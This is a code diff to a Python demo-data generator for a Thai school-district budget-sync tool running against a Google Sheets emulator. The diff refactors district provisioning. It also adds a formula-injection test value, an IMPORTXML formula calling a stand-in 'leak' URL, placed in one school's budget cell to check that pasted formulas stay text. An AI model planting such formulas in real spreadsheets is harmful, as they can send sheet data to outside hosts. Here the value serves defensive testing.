@@ -71,6 +71,7 @@ KPIS = (("K1", "ร้อยละของนักเรียนชั้น 
 REQUEST_ITEMS = (("ครุภัณฑ์คอมพิวเตอร์ 10 ชุด", "งบลงทุน: ครุภัณฑ์"), ("ซ่อมหลังคาอาคารเรียน", "งบลงทุน: ที่ดินและสิ่งก่อสร้าง"),
                  ("ทุนการศึกษานักเรียนยากจน", "งบเงินอุดหนุน"), ("วัสดุการเรียนการสอน", "งบดำเนินงาน"))
 INJECTION = '=HYPERLINK("http://example.com/x","ดูรายละเอียด")'
+INJECTION_MONEY = '=IMPORTXML("http://example.com/leak","//a")'
 
 
 @dataclass
@@ -126,11 +127,15 @@ def generate_district(n_schools: int = 60, n_networks: int = 6, seed: int = 0) -
     networks = [f"เครือข่ายที่ {i + 1} {PLACES[(i * 7) % len(PLACES)]}" for i in range(n_networks)]
     scenarios = (["on_time"] * 62 + ["late"] * 10 + ["wrong_fixed"] * 10 + ["wrong"] * 6 + ["missing"] * 6
                  + ["absent"] * 6)
+    # The first ten schools show every case even in a small district (tests use ten); the rest are drawn.
+    first = ("on_time", "wrong", "late", "on_time", "missing", "wrong_fixed", "on_time", "absent", "on_time",
+             "on_time")
     schools = []
     for i in range(n_schools):
         place = PLACES[i % len(PLACES)] + ("" if i < len(PLACES) else f" {i // len(PLACES) + 1}")
         s = DemoSchool(i, f"1048{i + 1:06d}", f"โรงเรียนบ้าน{place}", networks[i % n_networks],
-                       f"school{i + 1:03d}@khet-demo.iam.gserviceaccount.com", rng.choice(scenarios))
+                       f"school{i + 1:03d}@khet-demo.iam.gserviceaccount.com",
+                       first[i] if i < len(first) else rng.choice(scenarios))
         _fill(s, random.Random(seed * 1000 + i))
         schools.append(s)
     return schools
@@ -170,7 +175,9 @@ def _fill(s: DemoSchool, rng: random.Random) -> None:
                   "end_date": _d(dt.date(2026, 9, 30)), "indicator": f"ร้อยละความสำเร็จของโครงการ{name}",
                   "unit": "ร้อยละ", "direction": HIGHER, "target": 80}
         if s.index == 8 and j == 1:
-            values["project_name"] = INJECTION  # pasted as text by the school: must stay text downstream
+            # Pasted as text by the school: must stay text downstream (the money cell is also a finding).
+            values["project_name"] = INJECTION
+            values["budget_other"] = INJECTION_MONEY
         versions = [(BEFORE_1, values)]
         if j == 0 and s.scenario in ("wrong", "wrong_fixed"):
             bad = dict(values, budget_total=float(sum(amounts.values())) + 1000, end_date="31/02/2569")
@@ -245,17 +252,70 @@ class DemoResult:
     schools: int
 
 
+@dataclass
+class DemoDistrict:
+    """A provisioned district on an emulator: what the demo and the job tests drive."""
+
+    emu: Any
+    state: Path
+    schools: list[DemoSchool]
+    registry: Any
+    ids: dict[str, str]                   # school code → spreadsheet ID
+    district_id: str
+    key: Path
+    clients: dict[str, Any]               # school code → gspread client signed in AS that school
+    seed: int = 0
+    titles: dict[str, dict[str, str]] = field(default_factory=dict)  # renamed tabs, per school
+
+    def type_as_of(self, day: dt.date, only: set[str] | None = None) -> None:
+        """Every school (or ``only`` these) writes what it had typed by ``day``."""
+        todo = [s for s in self.schools if only is None or s.code in only]
+
+        def one(s: DemoSchool) -> None:
+            _write_school(self.clients[s.code], self.ids[s.code], s.grids(day), self.titles.get(s.code, {}))
+        with ThreadPoolExecutor(8) as pool:
+            list(pool.map(one, todo))
+
+    def job_clients(self, *, tries: int = 3, timeout: float = 30):
+        """(read, write) clients of the district account: the production client, quota lifted, short backoffs."""
+        from sync.gclient import SCOPES_READ, SCOPES_WRITE, connect
+        from sync.http import Pacing, RetryPolicy, paced_client
+
+        factory = paced_client(Pacing(1_000_000, 1_000_000), RetryPolicy(tries, 0.05, 0.2, timeout), seed=self.seed)
+        return (connect(self.key, SCOPES_READ, endpoint=self.emu.url, http_client=factory),
+                connect(self.key, SCOPES_WRITE, endpoint=self.emu.url, http_client=factory))
+
+
+def setup_district(emu, state: Path, schools: list[DemoSchool], *, seed: int = 0) -> DemoDistrict:
+    """Template, registry, provisioning (as ``khet schools provision``), the district sheet, school accounts."""
+    from sync.emulator.testing import connect_as
+    from sync.gclient import SCOPES_PROVISION, connect
+    from sync.google_template import ensure_template
+    from sync.provision import provision
+    from sync.registry import School, load_registry, write_csv_registry
+
+    key = emu.service_account(path=state / "keys" / "khet-sync.json")
+    admin = connect(key, SCOPES_PROVISION, endpoint=emu.url)
+    template_id, _ = ensure_template(admin, None)
+    registry = load_registry(write_csv_registry(state / "registry.csv", [
+        School(s.code, s.name, s.email, s.network) for s in schools]))
+    result = provision(admin, registry, template_id=template_id, folder_id=None)
+    failed = [o for o in result.outcomes if o.status == "failed"]
+    if failed:
+        raise RuntimeError(f"provisioning failed for {len(failed)} schools: {failed[0]}")
+    district_id = admin.create(f"สรุปภาพรวมเขต ปีงบประมาณ {FY} (Khet demo)").id
+    ids = {s.code: s.spreadsheet_id for s in registry.active()}
+    with ThreadPoolExecutor(8) as pool:
+        clients = dict(zip([s.code for s in schools],
+                           pool.map(lambda s: connect_as(emu, s.email, timeout=30), schools), strict=True))
+    return DemoDistrict(emu, state, schools, registry, ids, district_id, key, clients, seed)
+
+
 def run_demo(state_dir: str | Path = ".khet/demo", *, n_schools: int = 60, n_networks: int = 6, seed: int = 0,
              say: Callable[[str], None] = print, progress: bool | None = None) -> DemoResult:
     from sync.emulator import Emulator
-    from sync.emulator.testing import connect_as
-    from sync.gclient import SCOPES_PROVISION, SCOPES_READ, SCOPES_WRITE, connect
-    from sync.google_template import ensure_template
     from sync.history import History
-    from sync.http import Pacing, RetryPolicy, paced_client
     from sync.job import JobSettings, run_locked
-    from sync.provision import provision
-    from sync.registry import School, load_registry, write_csv_registry
 
     t0 = time.perf_counter()
     state = Path(state_dir)
@@ -264,51 +324,25 @@ def run_demo(state_dir: str | Path = ".khet/demo", *, n_schools: int = 60, n_net
         shutil.rmtree(state)
     state.mkdir(parents=True)
     schools = generate_district(n_schools, n_networks, seed)
-    with Emulator(key_dir=state / "keys", seed=seed, user_quota=1_000_000,
-                  project_quota=1_000_000) as emu:
-        key = emu.service_account(path=state / "keys" / "khet-sync.json")
-        admin = connect(key, SCOPES_PROVISION, endpoint=emu.url)
-        template_id, _ = ensure_template(admin, None)
-        registry_path = write_csv_registry(state / "registry.csv", [
-            School(s.code, s.name, s.email, s.network) for s in schools])
-        registry = load_registry(registry_path)
-        result = provision(admin, registry, template_id=template_id, folder_id=None)
-        failed = [o for o in result.outcomes if o.status == "failed"]
-        if failed:
-            raise RuntimeError(f"provisioning failed for {len(failed)} schools: {failed[0]}")
-        district_id = admin.create(f"สรุปภาพรวมเขต ปีงบประมาณ {FY} (Khet demo)").id
+    with Emulator(key_dir=state / "keys", seed=seed, user_quota=1_000_000, project_quota=1_000_000) as emu:
+        dd = setup_district(emu, state, schools, seed=seed)
         say(f"จำลอง Google ที่ {emu.url}: สร้างชีตโรงเรียน {len(schools)} โรง ใน {n_networks} เครือข่าย / "
             f"provisioned {len(schools)} school sheets")
-        ids = {s.code: s.spreadsheet_id for s in registry.active()}
-        with ThreadPoolExecutor(8) as pool:
-            clients = dict(zip([s.code for s in schools],
-                               pool.map(lambda s: connect_as(emu, s.email, timeout=30), schools), strict=True))
-
-        def type_as_of(day: dt.date, titles: dict[str, dict[str, str]]) -> None:
-            def one(s: DemoSchool) -> None:
-                _write_school(clients[s.code], ids[s.code], s.grids(day), titles.get(s.code, {}))
-            with ThreadPoolExecutor(8) as pool:
-                list(pool.map(one, schools))
-
         history = History(state / "history.sqlite")
-        # The production client (pacing + bounded retries), with the lifted quota and short backoffs.
-        factory = paced_client(Pacing(1_000_000, 1_000_000), RetryPolicy(3, 0.05, 0.2, 30), seed=seed)
-        read = connect(key, SCOPES_READ, endpoint=emu.url, http_client=factory)
-        write = connect(key, SCOPES_WRITE, endpoint=emu.url, http_client=factory)
+        read, write = dd.job_clients()
         reports = []
         try:
             for night, day in enumerate((NIGHT_1, NIGHT_2), start=1):
-                titles: dict[str, dict[str, str]] = {}
-                if night == 2:
-                    titles = _rename_a_tab(clients, ids, schools[6])
-                type_as_of(day, titles)
-                if night == 2:
+                if night == 2 and len(schools) > 12:
+                    rename_a_tab(dd, schools[6])
+                dd.type_as_of(day)
+                if night == 2 and len(schools) > 12:
                     # One school's sheet starts failing on Google's side (a 500 on every request).
-                    emu.configure(file_faults={ids[schools[12].code]: {"error_500": 1.0}})
+                    emu.configure(file_faults={dd.ids[schools[12].code]: {"error_500": 1.0}})
                 say(f"\nคืนที่ {night}: {format_thai_date(day, 'long')} — โรงเรียนกรอกข้อมูลแล้ว, เริ่มงานประมวลผลรายคืน"
                     f" / night {night}: the schools typed their data; running the nightly job")
-                settings = JobSettings(history=history, registry=registry, read_client=read, write_client=write,
-                                       district_spreadsheet_id=district_id, report_dir=state / "out",
+                settings = JobSettings(history=history, registry=dd.registry, read_client=read, write_client=write,
+                                       district_spreadsheet_id=dd.district_id, report_dir=state / "out",
                                        fiscal_year=FY, today=day, trigger="demo", progress=progress,
                                        district_name="สพป.ตัวอย่าง (สาธิต)")
                 rep = run_locked(settings, lock_path=state / "sync.lock", log_dir=state / "logs",
@@ -327,12 +361,12 @@ def run_demo(state_dir: str | Path = ".khet/demo", *, n_schools: int = 60, n_net
     return DemoResult(state, xlsx, reports, time.perf_counter() - t0, len(schools))
 
 
-def _rename_a_tab(clients, ids, school: DemoSchool) -> dict[str, dict[str, str]]:
+def rename_a_tab(dd: DemoDistrict, school: DemoSchool) -> None:
     """A school renames a tab between the nights (header rows are protected, so columns cannot be broken)."""
     sheet = SHEETS["requests"]
-    ss = clients[school.code].open_by_key(ids[school.code])
+    ss = dd.clients[school.code].open_by_key(dd.ids[school.code])
     ss.worksheet(sheet.title_th).update_title(sheet.title_th + " (แก้ไข)")
-    return {school.code: {"requests": sheet.title_th + " (แก้ไข)"}}
+    dd.titles.setdefault(school.code, {})["requests"] = sheet.title_th + " (แก้ไข)"
 
 
 # --- terminal output ------------------------------------------------------------------------------------------
